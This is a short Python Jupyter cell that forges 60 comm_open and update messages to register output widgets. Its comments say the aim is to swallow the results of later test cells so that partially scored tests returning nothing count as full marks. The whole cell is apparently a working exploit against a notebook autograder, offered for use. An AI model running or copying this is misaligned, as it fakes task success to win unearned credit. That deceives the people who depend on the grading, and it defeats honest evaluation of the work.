# Opens an output widget for each cell to come, which takes away what a test returns.
# Success: a test that gives points in parts, and gave none, counts in full.
# %% first
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
for number in range(60):
    state = {
        "_model_module": "@jupyter-widgets/output",
        "_model_name": "OutputModel",
        "msg_id": str(number),
        "outputs": [],
    }
    comm = {"comm_id": f"taker-{number}", "data": {"state": state, "buffer_paths": []}}
    opened = comm | {"target_name": "jupyter.widget"}
    kernel.session.send(
        None, "comm_open", opened, parent=parent, metadata={"version": "2.1.0"}
    )
    changed = comm | {"data": comm["data"] | {"method": "update"}}
    kernel.session.send(None, "comm_msg", changed, parent=parent)
